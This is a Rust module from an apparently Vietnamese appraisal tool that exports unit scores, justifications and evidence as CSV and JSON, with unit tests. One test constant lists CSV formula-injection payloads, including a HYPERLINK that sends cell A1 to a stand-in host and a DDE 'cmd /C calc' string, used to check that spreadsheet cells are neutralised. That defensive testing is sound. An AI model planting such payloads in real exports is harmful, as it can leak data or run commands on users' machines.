//! Export of scores with justifications (SPEC I4) as CSV and JSON. One row per (unit, leaf):
//! units in the unit set's order, leaves in framework order. Files are written atomically.

use std::cell::{Cell, RefCell};
use std::collections::HashMap;
use std::io::{self, Write};
use std::path::Path;

use jiff::Timestamp;
use serde::Serialize;

use super::atomic::write_atomic_with;
pub use super::csv_cell::CsvCells;
use super::self_import::format_evidence;
use domain::aggregate::{UnitScores, ranking};
use domain::number::machine_hundredths;
use domain::{Council, Dispute, Evidence, Framework, Item, Method, Points, Status, Unit, UnitSet};

/// One exported line: a unit's leaf with its scores and the appraisal.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ExportRow {
    pub year: u16,
    pub unit: String,
    pub unit_name: String,
    /// Region code (the CSV shows the region's name, see [`ExportRow::region_name`]).
    pub region: String,
    pub region_name: String,
    pub code: String,
    /// The criterion's name.
    pub criterion: String,
    pub max: Points,
    pub method: Method,
    /// The unit's score (the survey score on survey leaves); `None` if not yet imported.
    pub self_score: Option<Points>,
    /// The score counted in the proposed total: the appraiser's score, or the self score
    /// while the item is undecided (see `Item::proposed_score`).
    pub proposed: Option<Points>,
    /// proposed − self.
    pub delta: Option<Points>,
    pub status: Status,
    pub justification: String,
    /// The unit's note on its self-assessment.
    pub note: String,
    pub evidence: Vec<Evidence>,
    /// The last evidence request.
    pub request: String,
    pub dispute: Option<Dispute>,
    /// The referral to the council and its decision.
    pub council: Option<Council>,
    /// Who changed the item last (OS user), and when.
    pub appraiser: String,
    pub updated: Option<Timestamp>,
}

/// Rows for every unit of `units` and every leaf of `fw` in `year`. Items of other years are
/// ignored; a missing item appears as pending with empty scores.
pub fn export_rows(fw: &Framework, units: &UnitSet, year: u16, items: &[Item]) -> Vec<ExportRow> {
    let mut by_unit: HashMap<&str, Vec<&Item>> = HashMap::new();
    for i in items.iter().filter(|i| i.key.year == year) {
        by_unit.entry(i.key.unit.as_str()).or_default().push(i);
    }
    let mut out = Vec::with_capacity(units.units.len() * fw.leaf_count());
    for u in &units.units {
        let its = by_unit.get(u.code.as_str()).map_or(&[][..], Vec::as_slice);
        out.extend(unit_rows(fw, units, u, year, its.iter().copied()));
    }
    out
}

/// The rows of one unit of `units`, one per leaf of `fw` (as [`export_rows`] gives them), from
/// its items; items of other units and years are ignored.
pub fn unit_rows<'a>(
    fw: &Framework,
    units: &UnitSet,
    u: &Unit,
    year: u16,
    items: impl IntoIterator<Item = &'a Item>,
) -> Vec<ExportRow> {
    let by_leaf: HashMap<&str, &Item> = items
        .into_iter()
        .filter(|i| i.key.year == year && i.key.unit == u.code)
        .map(|i| (i.key.leaf.as_str(), i))
        .collect();
    let mut out = Vec::with_capacity(fw.leaf_count());
    {
        let region_name = units
            .region(&u.region)
            .map(|r| r.name.clone())
            .unwrap_or_default();
        for leaf in fw.leaves() {
            let item = by_leaf.get(leaf.code.as_str()).copied();
            let sa = item.and_then(|i| i.self_assessment.as_ref());
            let ap = item.map(|i| &i.appraisal);
            out.push(ExportRow {
                year,
                unit: u.code.clone(),
                unit_name: u.name.clone(),
                region: u.region.clone(),
                region_name: region_name.clone(),
                code: leaf.code.clone(),
                criterion: leaf.name.clone(),
                max: leaf.max,
                method: leaf.method,
                self_score: item.and_then(Item::self_score),
                proposed: item.and_then(Item::proposed_score),
                delta: item.and_then(Item::delta),
                status: item.map_or(Status::Pending, Item::status),
                justification: ap.map(|a| a.justification.clone()).unwrap_or_default(),
                note: sa.map(|s| s.note.clone()).unwrap_or_default(),
                evidence: sa.map(|s| s.evidence.clone()).unwrap_or_default(),
                request: ap.map(|a| a.request.clone()).unwrap_or_default(),
                dispute: ap.and_then(|a| a.dispute.clone()),
                council: ap.and_then(|a| a.council.clone()),
                appraiser: item
                    .and_then(|i| i.last.as_ref())
                    .map(|t| t.actor.clone())
                    .unwrap_or_default(),
                updated: item.and_then(|i| i.last.as_ref()).map(|t| t.at),
            });
        }
    }
    out
}

/// The CSV header, in English machine names. `unit`, `code`, `self_score`, `note` and
/// `evidence` are the self-assessment import's columns; the others are in
/// `self_import::EXPORT_ONLY_COLUMNS` (plus `criterion`), so an export can be imported again.
pub const CSV_HEADER: [&str; 17] = [
    "year",
    "unit",
    "unit_name",
    "region",
    "code",
    "criterion",
    "max",
    "method",
    "self_score",
    "proposed",
    "delta",
    "status",
    "justification",
    "note",
    "evidence",
    "appraiser",
    "updated",
];

/// A score in a machine column: '.' whatever the language (docs/DATA_FORMATS.md).
fn opt(p: Option<Points>) -> String {
    p.map(Points::machine).unwrap_or_default()
}

fn method_name(m: Method) -> &'static str {
    match m {
        Method::Appraised => "appraised",
        Method::Survey => "survey",
        Method::Mixed => "mixed",
    }
}

/// RFC 3339 in UTC, whole seconds.
fn ts(t: Option<Timestamp>) -> String {
    t.map(|t| format!("{t:.0}")).unwrap_or_default()
}

/// Write rows as CSV (UTF-8, ',' separated, points with '.', one line per leaf) to any writer.
///
/// With [`CsvCells::Safe`] every text column — `unit`, `unit_name`, `region`, `code`,
/// `criterion`, `justification`, `note`, `evidence`, `appraiser` — is neutralised for
/// spreadsheets (see `csv_cell`); the numbers (`year`, `max`, `self_score`, `proposed`, `delta`,
/// which may be negative), `method`, `status` and `updated` are thamdinh's own and written as
/// they are. [`CsvCells::Raw`] writes every cell as it is.
pub fn write_csv_to(out: &mut dyn Write, rows: &[ExportRow], cells: CsvCells) -> io::Result<()> {
    let mut w = cells.writer(out);
    w.write_record(CSV_HEADER)?;
    write_csv_rows(&mut w, cells, rows)?;
    w.flush()
}

/// The next unit's rows of a streamed export (`None` after the last unit); an error stops the
/// export.
pub type NextRows<'a> = dyn FnMut() -> io::Result<Option<Vec<ExportRow>>> + 'a;

/// Write CSV as [`write_csv_to`] does, the rows coming unit by unit from `next`: only one
/// unit's rows are held at a time. Returns how many rows were written.
pub fn write_csv_units(
    out: &mut dyn Write,
    cells: CsvCells,
    next: &mut NextRows<'_>,
) -> io::Result<usize> {
    let mut w = cells.writer(out);
    w.write_record(CSV_HEADER)?;
    let mut count = 0;
    while let Some(rows) = next()? {
        count += rows.len();
        write_csv_rows(&mut w, cells, &rows)?;
    }
    w.flush()?;
    Ok(count)
}

fn write_csv_rows<W: Write>(
    w: &mut csv::Writer<W>,
    cells: CsvCells,
    rows: &[ExportRow],
) -> io::Result<()> {
    for r in rows {
        let evidence = format_evidence(&r.evidence).map_err(|e| {
            io::Error::new(
                io::ErrorKind::InvalidData,
                format!("unit {}, criterion {}: {e}", r.unit, r.code),
            )
        })?;
        w.write_record([
            r.year.to_string().as_str(),
            &cells.text(&r.unit),
            &cells.text(&r.unit_name),
            &cells.text(&r.region_name),
            &cells.text(&r.code),
            &cells.text(&r.criterion),
            &r.max.machine(),
            method_name(r.method),
            &opt(r.self_score),
            &opt(r.proposed),
            &opt(r.delta),
            r.status.as_str(),
            &cells.text(&r.justification),
            &cells.text(&r.note),
            &cells.text(&evidence),
            &cells.text(&r.appraiser),
            &ts(r.updated),
        ])?;
    }
    Ok(())
}

/// Write rows as CSV to `path`, atomically.
pub fn write_csv(path: &Path, rows: &[ExportRow], cells: CsvCells) -> io::Result<()> {
    write_atomic_with(path, |w| write_csv_to(w, rows, cells))
}

/// A unit's totals, ranks and groups, computed from self and from proposed scores.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct UnitTotals {
    pub unit: String,
    pub total_self: Points,
    pub total_proposed: Points,
    /// Hundredths of a percent of the framework total.
    pub percent_self: i64,
    pub percent_proposed: i64,
    pub rank_self: u32,
    pub rank_proposed: u32,
    pub group_self: Option<String>,
    pub group_proposed: Option<String>,
    /// Leaves reviewed out of `leaves`.
    pub reviewed: usize,
    pub leaves: usize,
}

/// Totals for every unit of `units` in `year`, in unit-set order (see `domain::aggregate`).
pub fn unit_totals(fw: &Framework, units: &UnitSet, year: u16, items: &[Item]) -> Vec<UnitTotals> {
    let mut by_unit: HashMap<&str, Vec<&Item>> = HashMap::new();
    for i in items.iter().filter(|i| i.key.year == year) {
        by_unit.entry(i.key.unit.as_str()).or_default().push(i);
    }
    let scores: HashMap<String, UnitScores> = units
        .units
        .iter()
        .map(|u| {
            let its = by_unit.get(u.code.as_str()).map_or(&[][..], Vec::as_slice);
            (u.code.clone(), UnitScores::compute(fw, its.iter().copied()))
        })
        .collect();
    totals_of(fw, units, &scores)
}

/// Totals for every unit of `units` from its scores (a unit without scores counts as empty),
/// in unit-set order: what [`unit_totals`] gives from the items themselves.
pub fn totals_of(
    fw: &Framework,
    units: &UnitSet,
    scores: &HashMap<String, UnitScores>,
) -> Vec<UnitTotals> {
    ranking(fw, units, scores)
        .into_iter()
        .map(|r| {
            let s = scores.get(&r.unit);
            UnitTotals {
                total_self: r.total.self_,
                total_proposed: r.total.proposed,
                percent_self: r.percent.self_,
                percent_proposed: r.percent.proposed,
                rank_self: r.rank.self_,
                rank_proposed: r.rank.proposed,
                group_self: r.group.self_,
                group_proposed: r.group.proposed,
                reviewed: s.map_or(0, |s| s.reviewed),
                leaves: s.map_or(fw.leaf_count(), |s| s.leaves),
                unit: r.unit,
            }
        })
        .collect()
}

/// The JSON export document; its shape is documented on [`write_json`]. `U`: its units, a
/// list or a stream ([`UnitStream`]).
#[derive(Serialize)]
struct JsonDoc<U> {
    format: &'static str,
    version: u32,
    year: u16,
    units: U,
}

#[derive(Serialize)]
struct JsonUnit<'a> {
    code: &'a str,
    name: &'a str,
    region: &'a str,
    region_name: &'a str,
    total_self: Option<Points>,
    total_proposed: Option<Points>,
    percent_self: Option<String>,
    percent_proposed: Option<String>,
    rank_self: Option<u32>,
    rank_proposed: Option<u32>,
    group_self: Option<&'a str>,
    group_proposed: Option<&'a str>,
    reviewed: Option<usize>,
    leaves: Option<usize>,
    items: Vec<JsonItem<'a>>,
}

#[derive(Serialize)]
struct JsonItem<'a> {
    code: &'a str,
    criterion: &'a str,
    max: Points,
    method: Method,
    self_score: Option<Points>,
    proposed: Option<Points>,
    delta: Option<Points>,
    status: Status,
    justification: &'a str,
    note: &'a str,
    evidence: &'a [Evidence],
    request: &'a str,
    dispute: Option<&'a Dispute>,
    #[serde(skip_serializing_if = "Option::is_none")]
    council: Option<&'a Council>,
    appraiser: &'a str,
    updated: Option<String>,
}

/// The JSON units of `rows` (rows of one unit follow each other), each with its totals.
fn json_units<'a>(
    rows: &'a [ExportRow],
    by_unit: &HashMap<&str, &'a UnitTotals>,
) -> Vec<JsonUnit<'a>> {
    let mut units: Vec<JsonUnit<'a>> = Vec::new();
    for r in rows {
        if units.last().is_none_or(|u| u.code != r.unit) {
            let t = by_unit.get(r.unit.as_str()).copied();
            units.push(JsonUnit {
                code: &r.unit,
                name: &r.unit_name,
                region: &r.region,
                region_name: &r.region_name,
                total_self: t.map(|t| t.total_self),
                total_proposed: t.map(|t| t.total_proposed),
                percent_self: t.map(|t| machine_hundredths(t.percent_self)),
                percent_proposed: t.map(|t| machine_hundredths(t.percent_proposed)),
                rank_self: t.map(|t| t.rank_self),
                rank_proposed: t.map(|t| t.rank_proposed),
                group_self: t.and_then(|t| t.group_self.as_deref()),
                group_proposed: t.and_then(|t| t.group_proposed.as_deref()),
                reviewed: t.map(|t| t.reviewed),
                leaves: t.map(|t| t.leaves),
                items: Vec::new(),
            });
        }
        if let Some(u) = units.last_mut() {
            u.items.push(JsonItem {
                code: &r.code,
                criterion: &r.criterion,
                max: r.max,
                method: r.method,
                self_score: r.self_score,
                proposed: r.proposed,
                delta: r.delta,
                status: r.status,
                justification: &r.justification,
                note: &r.note,
                evidence: &r.evidence,
                request: &r.request,
                dispute: r.dispute.as_ref(),
                council: r.council.as_ref(),
                appraiser: &r.appraiser,
                updated: r.updated.map(|t| ts(Some(t))),
            });
        }
    }
    units
}

/// The units of a streamed JSON export: each unit's rows asked for from `next` while the
/// document is written, so one unit's rows are held at a time. A failure of `next` is kept in
/// `error` (the writer only sees that the document stopped).
struct UnitStream<'n, 't> {
    next: RefCell<&'n mut NextRows<'n>>,
    by_unit: HashMap<&'t str, &'t UnitTotals>,
    rows: Cell<usize>,
    error: RefCell<Option<io::Error>>,
}

impl Serialize for UnitStream<'_, '_> {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        use serde::ser::{Error, SerializeSeq};
        let mut seq = s.serialize_seq(None)?;
        loop {
            let next = (self.next.borrow_mut())();
            match next {
                Ok(Some(rows)) => {
                    self.rows.set(self.rows.get() + rows.len());
                    for u in json_units(&rows, &self.by_unit) {
                        seq.serialize_element(&u)?;
                    }
                }
                Ok(None) => break,
                Err(e) => {
                    let text = e.to_string();
                    *self.error.borrow_mut() = Some(e);
                    return Err(S::Error::custom(text));
                }
            }
        }
        seq.end()
    }
}

/// Write the JSON document as [`write_json_to`] does, the rows coming unit by unit from
/// `next` (`totals` are every unit's, looked up by code): only one unit's rows are held at a
/// time. Returns how many rows were written.
pub fn write_json_units(
    out: &mut dyn Write,
    year: u16,
    totals: &[UnitTotals],
    next: &mut NextRows<'_>,
) -> io::Result<usize> {
    let doc = JsonDoc {
        format: "thamdinh-scores",
        version: 1,
        year,
        units: UnitStream {
            next: RefCell::new(next),
            by_unit: totals.iter().map(|t| (t.unit.as_str(), t)).collect(),
            rows: Cell::new(0),
            error: RefCell::new(None),
        },
    };
    let written = serde_json::to_writer_pretty(&mut *out, &doc);
    if let Some(e) = doc.units.error.take() {
        return Err(e);
    }
    written?;
    out.write_all(b"\n")?;
    Ok(doc.units.rows.get())
}

/// Write the JSON document (see [`write_json`]) to any writer, pretty-printed.
pub fn write_json_to(
    out: &mut dyn Write,
    year: u16,
    rows: &[ExportRow],
    totals: &[UnitTotals],
) -> io::Result<()> {
    let by_unit: HashMap<&str, &UnitTotals> = totals.iter().map(|t| (t.unit.as_str(), t)).collect();
    let doc = JsonDoc {
        format: "thamdinh-scores",
        version: 1,
        year,
        units: json_units(rows, &by_unit),
    };
    serde_json::to_writer_pretty(&mut *out, &doc)?;
    out.write_all(b"\n")
}

/// Write the JSON export document to `path`, atomically:
///
/// ```json
/// {
///   "format": "thamdinh-scores", "version": 1, "year": 2024,
///   "units": [{
///     "code": "44", "name": "Quảng Bình", "region": "BTB", "region_name": "Bắc Trung Bộ …",
///     "total_self": "91.25", "total_proposed": "89.75",
///     "percent_self": "91.25", "percent_proposed": "89.75",
///     "rank_self": 3, "rank_proposed": 5, "group_self": "A", "group_proposed": "B",
///     "reviewed": 80, "leaves": 88,
///     "items": [{
///       "code": "3.2.1", "criterion": "…", "max": "1.50", "method": "appraised",
///       "self_score": "1.50", "proposed": "1.00", "delta": "-0.50", "status": "adjusted",
///       "justification": "…", "note": "…",
///       "evidence": [{"number": "125/QĐ-UBND", "title": "…", "date": "2024-01-15", "link": ""}],
///       "request": "", "dispute": null, "appraiser": "nguyenvana",
///       "updated": "2025-03-02T08:15:00Z"
///     }]
///   }]
/// }
/// ```
///
/// Points and percentages are decimal strings with two decimals (exact, never floats); a score
/// not yet known is `null`; totals fields are `null` for a unit missing from `totals`.
/// `dispute` is `{explanation, document, claimed, received, round, late, outcome, response}` or
/// `null`; `council` (only when the item was referred) is `{reason, decision}` with `decision`
/// `{score, text, minutes}` or `null` while the council has not decided.
pub fn write_json(
    path: &Path,
    year: u16,
    rows: &[ExportRow],
    totals: &[UnitTotals],
) -> io::Result<()> {
    write_atomic_with(path, |w| write_json_to(w, year, rows, totals))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::self_import::parse_self_csv;
    use domain::testutil::{fixture_framework, fixture_units};
    use domain::{ItemKey, SelfAssessment, Touch};

    fn p(s: &str) -> Points {
        Points::parse(s).unwrap()
    }

    fn items() -> Vec<Item> {
        let mut a = Item::new(ItemKey::new(2024, "44", "3.2.1"));
        a.self_assessment = Some(SelfAssessment {
            score: p("1.5"),
            note: "Đã công bố, đúng hạn; \"đủ\" hồ sơ\nDòng 2".into(),
            evidence: vec![Evidence {
                number: "125/QĐ-UBND".into(),
                title: "Quyết định công bố danh mục TTHC".into(),
                date: "2024-02-01".into(),
                link: String::new(),
            }],
        });
        a.appraisal.proposed = Some(p("1"));
        a.appraisal.status = Status::Adjusted;
        a.appraisal.justification = "Tài liệu kiểm chứng chưa thể hiện thời hạn".into();
        a.last = Some(Touch {
            actor: "nguyenvana".into(),
            at: "2025-03-02T08:15:00.5Z".parse().unwrap(),
            seq: 7,
        });
        let mut b = Item::new(ItemKey::new(2024, "44", "1.2"));
        b.self_assessment = Some(SelfAssessment {
            score: p("0.75"),
            ..Default::default()
        });
        let mut s = Item::new(ItemKey::new(2024, "44", "8.1.1"));
        s.survey = Some(p("1.75"));
        // Another year: ignored.
        let mut old = Item::new(ItemKey::new(2023, "44", "1.1.1"));
        old.self_assessment = Some(SelfAssessment::default());
        vec![a, b, s, old]
    }

    #[test]
    fn rows_cover_every_unit_and_leaf_in_order() {
        let fw = fixture_framework();
        let units = fixture_units();
        let rows = export_rows(&fw, &units, 2024, &items());
        assert_eq!(rows.len(), 4 * 7);
        assert_eq!(rows[0].unit, "01");
        assert_eq!(rows[0].code, "1.1.1");
        assert_eq!(rows[0].status, Status::Pending);
        assert_eq!(rows[0].self_score, None);
        let r = rows
            .iter()
            .find(|r| r.unit == "44" && r.code == "3.2.1")
            .unwrap();
        assert_eq!(r.unit_name, "Quảng Bình");
        assert_eq!(r.region_name, "Bắc Trung Bộ và Duyên hải miền Trung");
        assert_eq!(
            (r.self_score, r.proposed, r.delta),
            (Some(p("1.5")), Some(p("1")), Some(p("-0.5")))
        );
        assert_eq!(r.appraiser, "nguyenvana");
        let old = rows
            .iter()
            .find(|r| r.unit == "44" && r.code == "1.1.1")
            .unwrap();
        assert_eq!(old.self_score, None);
    }

    #[test]
    fn csv_has_machine_header_and_dot_points() {
        let fw = fixture_framework();
        let units = fixture_units();
        let rows = export_rows(&fw, &units, 2024, &items());
        let mut buf = Vec::new();
        write_csv_to(&mut buf, &rows, CsvCells::Safe).unwrap();
        let text = String::from_utf8(buf).unwrap();
        let mut lines = text.lines();
        assert_eq!(lines.next().unwrap(), CSV_HEADER.join(","));
        assert!(text.contains(
            "2024,44,Quảng Bình,Bắc Trung Bộ và Duyên hải miền Trung,3.2.1,\
             Công bố danh mục thủ tục hành chính đúng thời hạn,1.50,appraised,1.50,1.00,-0.50,\
             adjusted,Tài liệu kiểm chứng chưa thể hiện thời hạn,\
             \"Đã công bố, đúng hạn; \"\"đủ\"\" hồ sơ\nDòng 2\",\
             125/QĐ-UBND|Quyết định công bố danh mục TTHC|2024-02-01,nguyenvana,2025-03-02T08:15:00Z\n"
        ));
        assert!(text.contains("2024,01,Hà Nội,Đồng bằng sông Hồng,1.1.1,"));
    }

    #[test]
    fn csv_round_trips_self_scores_through_the_importer() {
        let fw = fixture_framework();
        let units = fixture_units();
        // Give every appraised leaf of every unit a self score so the export is complete.
        let mut its = Vec::new();
        let mut k = 0;
        for u in &units.units {
            for leaf in fw.leaves() {
                let mut it = Item::new(ItemKey::new(2024, u.code.as_str(), leaf.code.as_str()));
                let q = (leaf.max.hundredths() / 25 - (k % 3)).max(0);
                k += 1;
                if leaf.method == Method::Survey {
                    it.survey = Some(Points::from_hundredths(q * 25));
                } else {
                    it.self_assessment = Some(SelfAssessment {
                        score: Points::from_hundredths(q * 25),
                        note: format!("ghi chú {k}, có dấu phẩy"),
                        evidence: vec![Evidence {
                            number: format!("{k}/KH-UBND"),
                            title: "Kế hoạch".into(),
                            date: "2024-05-06".into(),
                            link: "tlkc/a.pdf".into(),
                        }],
                    });
                }
                its.push(it);
            }
        }
        let rows = export_rows(&fw, &units, 2024, &its);
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("export.csv");
        write_csv(&path, &rows, CsvCells::Safe).unwrap();
        let bytes = std::fs::read(&path).unwrap();
        let back = parse_self_csv(&bytes, 2024, &fw, &units).unwrap();
        let expected: Vec<_> = its
            .iter()
            .filter_map(|i| {
                let s = i.self_assessment.as_ref()?;
                Some((
                    i.key.unit.clone(),
                    i.key.leaf.clone(),
                    s.score,
                    s.note.clone(),
                    s.evidence.clone(),
                ))
            })
            .collect();
        let got: Vec<_> = back
            .into_iter()
            .map(|r| (r.unit, r.leaf, r.score, r.note, r.evidence))
            .collect();
        assert_eq!(got, expected);
    }

    /// The payloads of SPEC R7's CSV rule.
    const PAYLOADS: [&str; 4] = [
        "=HYPERLINK(\"http://x.example/?q=\"&A1,\"bấm\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
    ];

    /// Unit 44's 3.2.1 with payload `k` in its note and justification and in the unit's name.
    fn hostile(k: usize) -> (UnitSet, Vec<ExportRow>) {
        let fw = fixture_framework();
        let mut units = fixture_units();
        let qb = units.units.iter_mut().find(|u| u.code == "44").unwrap();
        qb.name = PAYLOADS[k].into();
        let mut its = items();
        let it = its
            .iter_mut()
            .find(|i| i.key.unit == "44" && i.key.leaf == "3.2.1")
            .unwrap();
        it.appraisal.justification = PAYLOADS[k].into();
        it.self_assessment.as_mut().unwrap().note = PAYLOADS[k].into();
        let rows = export_rows(&fw, &units, 2024, &its);
        (units, rows)
    }

    fn record_of(text: &str, unit: &str, code: &str) -> csv::StringRecord {
        csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(Result::unwrap)
            .find(|r| &r[1] == unit && &r[4] == code)
            .unwrap()
    }

    #[test]
    fn csv_neutralises_formulas_in_text_and_raw_writes_them_as_they_are() {
        for (k, &payload) in PAYLOADS.iter().enumerate() {
            let (_, rows) = hostile(k);
            let mut buf = Vec::new();
            write_csv_to(&mut buf, &rows, CsvCells::Safe).unwrap();
            let text = String::from_utf8(buf).unwrap();
            let r = record_of(&text, "44", "3.2.1");
            let marked = format!("'{payload}");
            // unit_name, justification, note.
            assert_eq!((&r[2], &r[12], &r[13]), (&*marked, &*marked, &*marked));
            // Numbers thamdinh writes stay numbers, negative ones too.
            assert_eq!((&r[8], &r[9], &r[10]), ("1.50", "1.00", "-0.50"));
            // No cell of the file starts a formula.
            let mut rd = csv::Reader::from_reader(text.as_bytes());
            for rec in rd.records() {
                for (i, cell) in rec.unwrap().iter().enumerate() {
                    let numeric = [0, 6, 8, 9, 10].contains(&i);
                    assert!(
                        numeric || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{cell:?}"
                    );
                }
            }

            let mut buf = Vec::new();
            write_csv_to(&mut buf, &rows, CsvCells::Raw).unwrap();
            let raw = String::from_utf8(buf).unwrap();
            let r = record_of(&raw, "44", "3.2.1");
            assert_eq!((&r[2], &r[12], &r[13]), (payload, payload, payload));
        }
    }

    #[test]
    fn a_neutralised_export_imports_again_with_its_texts_as_they_were() {
        let fw = fixture_framework();
        for (k, &payload) in PAYLOADS.iter().enumerate() {
            let (units, mut rows) = hostile(k);
            rows.retain(|r| r.self_score.is_some());
            let mut buf = Vec::new();
            write_csv_to(&mut buf, &rows, CsvCells::Safe).unwrap();
            let back = parse_self_csv(&buf, 2024, &fw, &units).unwrap();
            let r = back
                .iter()
                .find(|r| r.unit == "44" && r.leaf == "3.2.1")
                .unwrap();
            assert_eq!(r.note, payload);
        }
    }

    #[test]
    fn a_semicolon_cannot_start_a_cell_for_a_spreadsheet_splitting_on_it() {
        let (_, mut rows) = hostile(3);
        rows[0].note = "xem mục 2;=1+1".into();
        let mut buf = Vec::new();
        write_csv_to(&mut buf, &rows[..1], CsvCells::Safe).unwrap();
        let text = String::from_utf8(buf).unwrap();
        assert!(text.contains(",\"xem mục 2;=1+1\","), "{text}");
    }

    #[test]
    fn streamed_unit_by_unit_the_files_are_the_same_and_an_error_stops_them() {
        let fw = fixture_framework();
        let units = fixture_units();
        let its = items();
        let rows = export_rows(&fw, &units, 2024, &its);
        let totals = unit_totals(&fw, &units, 2024, &its);
        // The totals again from each unit's scores alone (what a workbench's unit totals give).
        let scores: HashMap<String, UnitScores> = units
            .units
            .iter()
            .map(|u| {
                let mine = its.iter().filter(|i| i.key.unit == u.code);
                (u.code.clone(), UnitScores::compute(&fw, mine))
            })
            .collect();
        assert_eq!(totals_of(&fw, &units, &scores), totals);
        let (fw, units, its) = (&fw, &units, &its);
        let per_unit = || {
            let mut todo = units.units.iter();
            move || -> io::Result<Option<Vec<ExportRow>>> {
                Ok(todo.next().map(|u| unit_rows(fw, units, u, 2024, its)))
            }
        };
        let (mut whole, mut streamed) = (Vec::new(), Vec::new());
        write_csv_to(&mut whole, &rows, CsvCells::Safe).unwrap();
        let n = write_csv_units(&mut streamed, CsvCells::Safe, &mut per_unit()).unwrap();
        assert_eq!((n, &streamed), (rows.len(), &whole));
        let (mut whole, mut streamed) = (Vec::new(), Vec::new());
        write_json_to(&mut whole, 2024, &rows, &totals).unwrap();
        let n = write_json_units(&mut streamed, 2024, &totals, &mut per_unit()).unwrap();
        assert_eq!(n, rows.len());
        assert_eq!(String::from_utf8(streamed), String::from_utf8(whole));
        // A unit that cannot be read: the error, as it was.
        let failing = || {
            let mut k = 0;
            move || -> io::Result<Option<Vec<ExportRow>>> {
                k += 1;
                match k {
                    1 => Ok(Some(unit_rows(fw, units, &units.units[0], 2024, its))),
                    _ => Err(io::Error::other("kho không đọc được")),
                }
            }
        };
        let e = write_json_units(&mut Vec::new(), 2024, &totals, &mut failing()).unwrap_err();
        assert_eq!(e.to_string(), "kho không đọc được");
        let e = write_csv_units(&mut Vec::new(), CsvCells::Raw, &mut failing()).unwrap_err();
        assert_eq!(e.to_string(), "kho không đọc được");
    }

    #[test]
    fn json_document_groups_rows_by_unit_with_totals() {
        let fw = fixture_framework();
        let units = fixture_units();
        let mut its = items();
        // 3.2.1 of unit 44 was referred to the council, which decided.
        let referred = its
            .iter_mut()
            .find(|i| i.key.unit == "44" && i.key.leaf == "3.2.1")
            .unwrap();
        referred.appraisal.council = Some(Council {
            reason: "Tỉnh không đồng ý".into(),
            decision: Some(domain::CouncilDecision {
                score: Points::from_hundredths(100),
                text: "Giữ nguyên".into(),
                minutes: "BB 02".into(),
            }),
        });
        let rows = export_rows(&fw, &units, 2024, &its);
        let totals = unit_totals(&fw, &units, 2024, &its);
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("export.json");
        write_json(&path, 2024, &rows, &totals).unwrap();
        let v: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
        assert_eq!(v["year"], 2024);
        assert_eq!(v["units"].as_array().unwrap().len(), 4);
        let qb = &v["units"][1];
        assert_eq!(qb["code"], "44");
        // 1.00 (3.2.1 adjusted) + 0.75 + 1.75 survey.
        assert_eq!(qb["total_proposed"], "3.50");
        assert_eq!(qb["total_self"], "4.00");
        assert_eq!(qb["percent_self"], "40.00");
        assert_eq!(qb["rank_self"], 1);
        assert_eq!(qb["items"].as_array().unwrap().len(), 7);
        let it = &qb["items"][5];
        assert_eq!(it["code"], "8.1.1");
        assert_eq!(it["method"], "survey");
        assert_eq!(it["self_score"], "1.75");
        let adj = &qb["items"][3];
        assert_eq!(adj["status"], "adjusted");
        assert_eq!(adj["evidence"][0]["number"], "125/QĐ-UBND");
        assert_eq!(adj["updated"], "2025-03-02T08:15:00Z");
        assert_eq!(adj["council"]["decision"]["score"], "1.00");
        assert_eq!(adj["council"]["decision"]["minutes"], "BB 02");
        assert!(
            qb["items"][4].get("council").is_none(),
            "only referred items"
        );
        assert_eq!(
            v["units"][0]["items"][0]["self_score"],
            serde_json::Value::Null
        );
    }
}
